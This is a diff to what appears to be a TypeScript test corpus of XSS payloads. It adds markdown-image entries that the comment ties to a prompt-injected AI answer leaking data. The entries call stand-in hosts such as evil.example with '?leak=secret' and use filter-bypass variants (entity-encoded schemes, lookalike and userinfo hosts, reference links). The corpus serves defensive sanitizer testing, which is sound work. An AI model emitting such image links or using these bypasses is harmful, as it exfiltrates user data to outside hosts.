@@ -165,6 +165,17 @@ const PAYLOADS: ReadonlyArray<readonly [XssCategory, string]> = [
   ['embedding', "{{constructor.constructor('$P')()}}"],
   ['embedding', '$' + '{$P}'],
   ['embedding', 'javascript:$P'],
+  // Foreign markdown images: a prompt-injected answer leaking data through an image request.
+  ['image-url', `![x](${FOREIGN}/p.png?leak=secret)`],
+  ['image-url', '![x](http://evil.example/p.png?leak=secret)'],
+  ['image-url', '![x](HTTPS://EVIL.EXAMPLE/upper.png)'],
+  ['image-url', '![x](&#104;ttps&#x3A;//evil.example/entity.png)'],
+  ['image-url', '![x](//evil.example/relative.png?leak=secret)'],
+  ['image-url', '![a][r]\n\n[r]: https://evil.example/reference.png'],
+  ['image-url', `![x](<${FOREIGN}/angle.png> "title")`],
+  ['image-url', `[![x](${FOREIGN}/in-link.png)](https://example.com)`],
+  ['image-url', '![x](https://127.0.0.1.evil.example/lookalike.png)'],
+  ['image-url', '![x](https://user@evil.example/userinfo.png)'],
 ];
 
 /** The corpus: each payload numbered, its trap call and token filled in. */
